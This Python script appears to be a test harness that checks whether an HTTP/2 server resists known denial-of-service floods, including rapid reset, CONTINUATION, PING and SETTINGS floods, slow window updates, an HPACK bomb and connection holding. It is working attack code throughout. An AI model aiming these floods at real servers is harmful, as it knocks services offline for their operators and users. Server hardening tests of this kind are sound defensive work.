#!/usr/bin/env python3
"""A client of HTTP/2 that does not play fair: http2_attack.py ATTACK ADDRESS PORT PATH.

Plain TCP, prior knowledge. Each attack goes on until the server ends the connection, and prints how
many frames that took and the error of its GOAWAY; a server that puts up with 20,000 is an error.
`hold N` opens N connections with 100 requests each, lets nothing through its windows, and waits for
its input to end.
"""
import socket
import struct
import sys

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAMES_MAX = 20000


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def fields(*pairs):
    """HPACK literals that no table keeps."""
    return b"".join(bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
                    for name, value in pairs)


class Client:
    def __init__(self, address, port, path, settings=b""):
        self.socket = socket.create_connection((address, port), timeout=20)
        self.block = fields((":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "a"))
        self.socket.sendall(PREFACE + frame(SETTINGS, payload=settings))

    def goaway(self):
        """Reads until the end; the error of a GOAWAY."""
        data, error = b"", None
        while True:
            try:
                piece = self.socket.recv(65536)
            except ConnectionError:
                piece = b""
            if not piece:
                return error
            data += piece
            while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                size = int.from_bytes(data[:3], "big")
                if data[3] == GOAWAY:
                    error = int.from_bytes(data[13:17], "big")
                data = data[9 + size:]

    def flood(self, frames, batch=20):
        """Sends what the iterator gives until the server ends; returns how much it took."""
        sent = 0
        while sent < FRAMES_MAX:
            piece = b"".join(next(frames) for _ in range(batch))
            try:
                self.socket.sendall(piece)
            except ConnectionError:
                return sent
            sent += batch
            self.socket.setblocking(False)
            try:
                if self.socket.recv(65536, socket.MSG_PEEK) == b"":
                    return sent
                self.drain()
            except BlockingIOError:
                pass
            except ConnectionError:
                return sent
            finally:
                self.socket.settimeout(20)
            if self.error is not None:
                return sent
        sys.exit("the server puts up with it")

    error = None
    rest = b""

    def drain(self):
        self.rest += self.socket.recv(65536)
        while len(self.rest) >= 9 and len(self.rest) >= 9 + int.from_bytes(self.rest[:3], "big"):
            if self.rest[3] == GOAWAY:
                self.error = int.from_bytes(self.rest[13:17], "big")
            self.rest = self.rest[9 + int.from_bytes(self.rest[:3], "big"):]


def endless(make):
    number = 0
    while True:
        yield make(number)
        number += 1


def attack_reset(client):
    return endless(lambda n: frame(HEADERS, 5, 2 * n + 1, client.block)
                   + frame(RST_STREAM, 0, 2 * n + 1, struct.pack("!I", 8)))


def attack_continuation(client):
    return endless(lambda n: frame(CONTINUATION if n else HEADERS, 0, 1, b"" if n else client.block))


def attack_settings(_):
    return endless(lambda n: frame(SETTINGS, payload=struct.pack("!HI", 4, n % 1000)))


def attack_ping(_):
    return endless(lambda n: frame(PING, payload=struct.pack("!Q", n)))


def attack_window(client):
    """A byte of each answer at a time."""
    return endless(lambda n: frame(HEADERS, 5, 1, client.block) if n == 0
                   else frame(WINDOW_UPDATE, 0, 1, struct.pack("!I", 1)))


def attack_empty(client):
    block = client.block.replace(b"GET", b"PUT")
    return endless(lambda n: frame(HEADERS, 4, 1, block) if n == 0 else frame(DATA, 0, 1, b""))


def attack_made_to_reset(client):
    return endless(lambda n: frame(HEADERS, 4, 2 * n + 1, client.block.replace(b"GET", b"PUT"))
                   + frame(WINDOW_UPDATE, 0, 2 * n + 1, struct.pack("!I", 0x7fffffff)))


def attack_bomb(client):
    """A field of 4,000 bytes that HPACK's table keeps, and heads that name it 8,000 times with a byte each."""
    kept = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    return endless(lambda n: frame(HEADERS, 5, 2 * n + 1, client.block + (b"\xbe" * 8000 if n else kept)))


def hold(address, port, path, connections):
    """Requests whose answers no window lets through."""
    clients = []
    for _ in range(connections):
        client = Client(address, port, path, struct.pack("!HI", 4, 0))
        client.socket.sendall(b"".join(frame(HEADERS, 5, 2 * n + 1, client.block) for n in range(100)))
        clients.append(client)
    print("held", flush=True)
    sys.stdin.read()


def main():
    name, address, port, path = sys.argv[1:5]
    if name == "hold":
        hold(address, int(port), path, int(sys.argv[5]))
        return
    settings = struct.pack("!HI", 4, 0) if name == "window" else b""
    client = Client(address, int(port), path, settings)
    attack = globals()[f"attack_{name}"]
    sent = client.flood(attack(client))
    error = client.error if client.error is not None else client.goaway()
    print(f"{name}: ended after {sent} frames, error {error}")
    if error not in (None, 2, 11):  # 2: libnghttp2's own limit on resets
        sys.exit(1)


main()
